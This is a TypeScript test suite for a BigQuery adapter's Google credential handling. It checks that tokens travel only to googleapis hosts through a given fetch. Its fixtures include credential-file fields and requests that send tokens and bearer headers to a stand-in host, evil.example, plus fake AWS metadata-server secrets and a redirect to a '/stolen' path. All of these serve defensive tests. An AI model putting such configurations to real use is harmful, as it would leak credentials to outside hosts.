import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import type { Fetch } from '../../../src/adapters/bigquery/fetch.ts';
import {
  loadGoogleTokenClient,
  tokenClientLoader,
} from '../../../src/adapters/bigquery/googleTokenClient.ts';
import type { ProviderAnswer } from '../../../src/ports/metadataProvider.ts';
import { FakeClock } from '../../fixtures/fakeClock.ts';
import { ask, createProvider } from './providerFixture.ts';

const SUBJECT_TOKEN = 'hush-subject-token';
const IMPERSONATION =
  'https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/robot@p.iam.gserviceaccount.com:generateAccessToken';
const USER = {
  type: 'authorized_user',
  client_id: 'id',
  client_secret: 'hush',
  refresh_token: 'hush-refresh',
};
const METADATA = 'http://169.254.169.254/latest';

interface SeenRequest {
  readonly host: string;
  readonly method: string;
  readonly path: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** One web server on this machine that stands for every host: a request's own host is in a header. */
class Hosts {
  readonly seen: SeenRequest[] = [];
  readonly #server: Server;
  /** Answers in place of the usual; by host. */
  readonly answers = new Map<string, (response: ServerResponse, request: SeenRequest) => void>();

  private constructor() {
    this.#server = createServer((request, response) => {
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        const seen = {
          host: String(request.headers['x-asked-host'] ?? 'nobody asked this host'),
          method: request.method ?? '',
          path: request.url ?? '',
          headers: request.headers,
          body: Buffer.concat(chunks).toString(),
        };
        this.seen.push(seen);
        (this.answers.get(seen.host) ?? answerAsGoogle)(response, seen);
      });
    });
  }

  static async start(): Promise<Hosts> {
    const hosts = new Hosts();
    hosts.#server.listen(0, '127.0.0.1');
    await once(hosts.#server, 'listening');
    return hosts;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  readonly fetch: Fetch = (input, init = {}) => {
    const url = new URL(input instanceof Request ? input.url : input);
    const headers = new Headers(init.headers);
    headers.set('x-asked-host', url.host);
    return globalThis.fetch(new URL(url.pathname + url.search, this.url), { ...init, headers });
  };

  from(host: string): readonly SeenRequest[] {
    return this.seen.filter((request) => request.host === host);
  }

  get names(): readonly string[] {
    return this.seen.map(({ host }) => host);
  }

  async dispose(): Promise<void> {
    this.#server.closeAllConnections();
    this.#server.close();
    await once(this.#server, 'close');
  }
}

function answerAsGoogle(response: ServerResponse, { host }: SeenRequest): void {
  const expireTime = new Date(Date.now() + 3_600_000).toISOString();
  const answer: Readonly<Record<string, object>> = {
    'oauth2.googleapis.com': { access_token: 'user-token', expires_in: 3600, token_type: 'Bearer' },
    'sts.googleapis.com': { access_token: 'sts-token', expires_in: 3600, token_type: 'Bearer' },
    'iamcredentials.googleapis.com': { accessToken: 'robot-token', expireTime },
    'bigquery.googleapis.com': { kind: 'bigquery#table', type: 'TABLE', numRows: '1', numBytes: '2' },
  };
  response.setHeader('content-type', 'application/json');
  response.end(JSON.stringify(answer[host] ?? { accessToken: 'stolen', access_token: 'stolen', expireTime }));
}

function reasonOf(answer: ProviderAnswer): string {
  if (answer.kind === 'callerFault') return answer.failure.reason;
  return 'reason' in answer ? answer.reason : answer.kind;
}

function detailOf(answer: ProviderAnswer): string {
  return answer.kind === 'callerFault' ? (answer.failure.detail ?? '') : '';
}

describe('token requests', () => {
  let folder: string;
  let subjectToken: string;
  let hosts: Hosts;
  const { warn } = console;
  beforeEach(async () => {
    console.warn = () => undefined; // Google's library warns about files that nobody checked
    hosts = await Hosts.start();
    folder = await mkdtemp(join(tmpdir(), 'token-requests-'));
    subjectToken = join(folder, 'subject-token');
    await writeFile(subjectToken, SUBJECT_TOKEN);
  });
  afterEach(async () => {
    console.warn = warn;
    await hosts.dispose();
    await rm(folder, { recursive: true, force: true });
  });

  async function write(content: object): Promise<string> {
    const credentialsFile = join(folder, 'key.json');
    await writeFile(credentialsFile, JSON.stringify(content));
    return credentialsFile;
  }

  async function askWith(content: object, options: object = {}): Promise<ProviderAnswer> {
    const credentialsFile = await write(content);
    return await ask(createProvider({ credentialsFile }, { fetch: hosts.fetch, ...options }));
  }

  function workload(more: object = {}): object {
    return {
      type: 'external_account',
      audience: '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/q',
      subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
      credential_source: { file: subjectToken },
      ...more,
    };
  }

  function impersonating(source: object, more: object = {}): object {
    return {
      type: 'impersonated_service_account',
      service_account_impersonation_url: IMPERSONATION,
      source_credentials: source,
      ...more,
    };
  }

  describe('of workload identity', () => {
    it('go through the given fetch, from the subject token to the table', async () => {
      const answer = await askWith(
        workload({
          token_url: 'https://sts.googleapis.com/v1/token',
          service_account_impersonation_url: IMPERSONATION,
        }),
      );
      assert.equal(answer.kind, 'ok');
      assert.deepEqual(hosts.names, [
        'sts.googleapis.com',
        'iamcredentials.googleapis.com',
        'bigquery.googleapis.com',
      ]);
      const [exchange, impersonation, table] = hosts.seen;
      assert.equal(new URLSearchParams(exchange?.body).get('subject_token'), SUBJECT_TOKEN);
      assert.equal(impersonation?.headers.authorization, 'Bearer sts-token');
      assert.equal(table?.headers.authorization, 'Bearer robot-token');
    });

    it('may begin with a subject token from elsewhere, which is asked for and told nothing', async () => {
      hosts.answers.set('tokens.example', (response) => response.end(SUBJECT_TOKEN));
      const source = { url: 'https://tokens.example/mine', headers: { 'Metadata-Flavor': 'Some' } };
      assert.equal((await askWith(workload({ credential_source: source }))).kind, 'ok');
      const [asked, exchange] = hosts.seen;
      assert.deepEqual(
        [asked?.method, asked?.body, asked?.headers['metadata-flavor'], asked?.headers.authorization],
        ['GET', '', 'Some', undefined],
      );
      assert.equal(new URLSearchParams(exchange?.body).get('subject_token'), SUBJECT_TOKEN);
    });

    it('of external people are refreshed through the given fetch', async () => {
      const answer = await askWith({
        type: 'external_account_authorized_user',
        audience: '//iam.googleapis.com/locations/global/workforcePools/p/providers/q',
        client_id: 'id',
        client_secret: 'hush',
        refresh_token: 'hush-refresh',
        token_url: 'https://sts.googleapis.com/v1/oauthtoken',
      });
      assert.equal(answer.kind, 'ok');
      assert.deepEqual(hosts.names, ['sts.googleapis.com', 'bigquery.googleapis.com']);
    });

    it('follow no redirect with the subject token', async () => {
      const target = await Hosts.start();
      try {
        hosts.answers.set('sts.googleapis.com', (response) =>
          response.writeHead(307, { location: `${target.url}/stolen` }).end(),
        );
        const answer = await askWith(workload());
        assert.equal(reasonOf(answer), 'networkDown');
        assert.deepEqual(hosts.names, ['sts.googleapis.com']);
        assert.deepEqual(target.seen, []);
      } finally {
        await target.dispose();
      }
    });

    it('end with the deadline, and the request with them', async () => {
      const clock = new FakeClock();
      const asked = Promise.withResolvers<ServerResponse>();
      hosts.answers.set('sts.googleapis.com', (response) => asked.resolve(response));
      const answer = askWith(workload(), { clock });
      const response = await asked.promise;
      const closed = once(response, 'close');
      await clock.advance(8_000);
      assert.equal(reasonOf(await answer), 'networkDown');
      await closed;
      assert.equal(response.writableEnded, false);
    });

    it('without a network are the network’s fault, not the file’s', async () => {
      const cause = Object.assign(new Error('getaddrinfo'), { code: 'ENOTFOUND' });
      const fetch: Fetch = () => Promise.reject(new TypeError('fetch failed', { cause }));
      const answer = await askWith(workload(), { fetch });
      assert.ok(answer.kind === 'transient' && answer.reason === 'networkDown', reasonOf(answer));
      assert.match(answer.message, /sts\.googleapis\.com \(ENOTFOUND\)/);
    });

    for (const [code, expected] of [
      ['ENOTFOUND', 'networkDown'],
      ['DEPTH_ZERO_SELF_SIGNED_CERT', 'networkDown'],
      ['ENOENT', 'credentialsUnreadable'],
      ['ERR_OSSL_UNSUPPORTED', 'credentialsUnreadable'],
    ] as const) {
      it(`that the library ends with ${code}: ${expected}`, async () => {
        const error = Object.assign(new Error('hush'), { code });
        const client = { getRequestHeaders: () => Promise.reject(error) };
        const answer = await askWith(workload(), { loadTokenClient: () => Promise.resolve(client) });
        assert.equal(reasonOf(answer), expected);
      });
    }

    describe('on AWS', () => {
      const variables = [
        'AWS_REGION',
        'AWS_DEFAULT_REGION',
        'AWS_ACCESS_KEY_ID',
        'AWS_SECRET_ACCESS_KEY',
        'AWS_SESSION_TOKEN',
      ];
      const before = new Map(variables.map((name) => [name, process.env[name]]));
      beforeEach(() => variables.forEach((name) => Reflect.deleteProperty(process.env, name)));
      afterEach(() => {
        for (const [name, value] of before) if (value !== undefined) process.env[name] = value;
      });
      const source = {
        environment_id: 'aws1',
        region_url: `${METADATA}/meta-data/placement/availability-zone`,
        url: `${METADATA}/meta-data/iam/security-credentials`,
        imdsv2_session_token_url: `${METADATA}/api/token`,
        regional_cred_verification_url:
          'https://sts.{region}.amazonaws.com?Action=GetCallerIdentity&Version=2011-06-15',
      };

      it('begin at the machine’s metadata server', async () => {
        hosts.answers.set('169.254.169.254', (response, { method, path }) => {
          const text = new Map([
            ['PUT /latest/api/token', 'session'],
            ['GET /latest/meta-data/placement/availability-zone', 'eu-west-1a'],
            ['GET /latest/meta-data/iam/security-credentials', 'role'],
            [
              'GET /latest/meta-data/iam/security-credentials/role',
              '{"AccessKeyId":"key","SecretAccessKey":"hush-aws","Token":"token"}',
            ],
          ]).get(`${method} ${path}`);
          response.writeHead(text === undefined ? 404 : 200, { 'content-type': 'text/plain' }).end(text);
        });
        const answer = await askWith(workload({ credential_source: source }));
        assert.equal(answer.kind, 'ok', detailOf(answer));
        const [exchange] = hosts.from('sts.googleapis.com');
        const subject = decodeURIComponent(new URLSearchParams(exchange?.body).get('subject_token') ?? '');
        assert.match(subject, /https:\/\/sts\.eu-west-1\.amazonaws\.com/);
        assert.doesNotMatch(subject, /hush/);
      });

      for (const field of Object.keys(source).filter((name) => name.endsWith('url'))) {
        it(`never begin elsewhere: ${field}`, async () => {
          const answer = await askWith(
            workload({ credential_source: { ...source, [field]: 'https://evil.example/' } }),
          );
          assert.equal(reasonOf(answer), 'credentialsUnreadable');
          assert.match(detailOf(answer), new RegExp(`credential_source\\.${field}`));
          assert.deepEqual(hosts.names, []);
        });
      }
    });
  });

  describe('are not sent to a host that the file names', () => {
    const evil = 'https://evil.example/v1/token';
    const quiet: readonly (readonly [string, () => object])[] = [
      ['endpoint of an impersonation', () => impersonating(USER, { endpoint: 'https://evil.example' })],
      ['tokenUrl', () => workload({ tokenUrl: evil })],
      ['universeDomain', () => workload({ universeDomain: 'evil.example' })],
      ['universeDomain of an impersonation', () => impersonating(USER, { universeDomain: 'evil.example' })],
      [
        'serviceAccountImpersonationUrl',
        () => workload({ serviceAccountImpersonationUrl: 'https://evil.example/a:generateAccessToken' }),
      ],
      ['endpoints', () => ({ ...USER, endpoints: { oauth2TokenUrl: evil } })],
      ['transporterOptions', () => workload({ transporterOptions: { baseURL: 'https://evil.example' } })],
    ];
    for (const [name, content] of quiet) {
      it(`${name}: not read`, async () => {
        assert.equal((await askWith(content())).kind, 'ok');
        assert.deepEqual(hosts.from('evil.example'), []);
        assert.ok(hosts.names.every((host) => host.endsWith('.googleapis.com')));
      });
    }

    const refused: readonly (readonly [string, () => object, RegExp])[] = [
      ['token_url', () => workload({ token_url: evil }), /: token_url/],
      [
        'token_url, two levels down',
        () => impersonating(impersonating(workload({ token_url: evil }))),
        /: source_credentials\.source_credentials\.token_url/,
      ],
      [
        'universe_domain, one level down',
        () => impersonating({ ...USER, universe_domain: 'evil.example' }),
        /: source_credentials\.universe_domain/,
      ],
      [
        'impersonation URL, one level down',
        () => impersonating(workload({ service_account_impersonation_url: evil })),
        /: source_credentials\.service_account_impersonation_url/,
      ],
      [
        'a subject token over plain HTTP',
        () => workload({ credential_source: { url: 'http://evil.example/' } }),
        /credential_source\.url/,
      ],
      [
        'a subject token for a bearer token',
        () => workload({ credential_source: { url: evil, headers: { AUTHORIZATION: 'Bearer hush' } } }),
        /credential_source\.headers/,
      ],
      [
        'a program that gives the subject token',
        () => workload({ credential_source: { executable: { command: '/bin/true' } } }),
        /credential_source is of a kind/,
      ],
      [
        'a certificate, whose requests go past the given fetch',
        () => workload({ credential_source: { certificate: { use_default_certificate_config: true } } }),
        /credential_source is of a kind/,
      ],
      [
        'a chain without end',
        () => Array.from({ length: 500 }).reduce<object>((inner) => impersonating(inner), USER),
        /nested too deeply/,
      ],
    ];
    for (const [name, content, expected] of refused) {
      it(`${name}: refused`, async () => {
        const answer = await askWith(content());
        assert.equal(reasonOf(answer), 'credentialsUnreadable');
        assert.match(detailOf(answer), expected);
        assert.doesNotMatch(detailOf(answer), /hush|evil/);
        assert.deepEqual(hosts.names, []);
      });
    }

    // What the library may ask for whatever the file said: the last line of defence.
    const gate: readonly (readonly [string, string, RequestInit])[] = [
      ['a bearer token', 'https://evil.example/', { headers: { authorization: 'Bearer hush' } }],
      ['a body', 'https://evil.example/', { method: 'PUT', body: 'subject_token=hush' }],
      ['POST', 'https://evil.example/', { method: 'POST' }],
      ['plain HTTP', 'http://evil.example/', {}],
      ['Google over plain HTTP', 'http://oauth2.googleapis.com/token', { method: 'POST', body: 'hush' }],
      [
        'a bearer token for the metadata server',
        'http://169.254.169.254/',
        { headers: { authorization: 'Bearer hush' } },
      ],
    ];
    for (const [name, url, init] of gate) {
      it(`${name}, whatever the library does`, async () => {
        const answer = await askWith(USER, {
          loadTokenClient: (_: unknown, fetch: Fetch) =>
            Promise.resolve({
              getRequestHeaders: async () => {
                await fetch(url, init);
                return new Headers({ authorization: 'Bearer stolen' });
              },
            }),
        });
        assert.equal(reasonOf(answer), 'credentialsUnreadable');
        assert.match(detailOf(answer), /not sent/);
        assert.deepEqual(hosts.names, []);
      });
    }
  });

  describe('by Google’s library', () => {
    it('that can’t be loaded: said without paths, and tried again', async () => {
      let isBroken = true;
      const loadTokenClient = tokenClientLoader(() => {
        if (!isBroken) return import('@google-cloud/bigquery');
        const error = new Error("Cannot find module '/home/ann/extension/out/bigquery.cjs'");
        throw Object.assign(error, { code: 'MODULE_NOT_FOUND' });
      });
      const credentialsFile = await write(USER);
      const provider = createProvider({ credentialsFile }, { fetch: hosts.fetch, loadTokenClient });
      const answer = await ask(provider);
      assert.equal(reasonOf(answer), 'unexpected');
      assert.equal(detailOf(answer), 'Google’s library could not be loaded (MODULE_NOT_FOUND)');
      isBroken = false;
      assert.equal((await ask(provider)).kind, 'ok');
    });

    it('that got a token past the given fetch are not believed', async () => {
      class BigQuery {
        readonly authClient = {
          jsonContent: null,
          getClient: () =>
            Promise.resolve({
              transporter: { defaults: {} },
              getRequestHeaders: () => Promise.resolve(new Headers({ authorization: 'Bearer elsewhere' })),
            }),
        };
      }
      const load = tokenClientLoader(() => Promise.resolve({ BigQuery } as never));
      const client = await load(USER, hosts.fetch);
      await assert.rejects(client.getRequestHeaders(), { reason: 'unexpected' });
    });

    it('that can’t be led through the given fetch are not made', async () => {
      const stranger = {
        transporter: { defaults: {} },
        stsCredential: {},
        getRequestHeaders: () => new Headers(),
      };
      class BigQuery {
        readonly authClient = { jsonContent: null, getClient: () => Promise.resolve(stranger) };
      }
      const load = tokenClientLoader(() => Promise.resolve({ BigQuery } as never));
      await assert.rejects(load(workload() as never, hosts.fetch), { reason: 'unexpected' });
    });

    it('that found a file by itself, which nobody has checked, are not made', async () => {
      const before = process.env['GOOGLE_APPLICATION_CREDENTIALS'];
      process.env['GOOGLE_APPLICATION_CREDENTIALS'] = await write(USER);
      try {
        await assert.rejects(loadGoogleTokenClient(undefined, hosts.fetch), {
          reason: 'credentialsUnreadable',
        });
        assert.deepEqual(hosts.names, []);
      } finally {
        if (before === undefined) Reflect.deleteProperty(process.env, 'GOOGLE_APPLICATION_CREDENTIALS');
        else process.env['GOOGLE_APPLICATION_CREDENTIALS'] = before;
      }
    });
  });
});
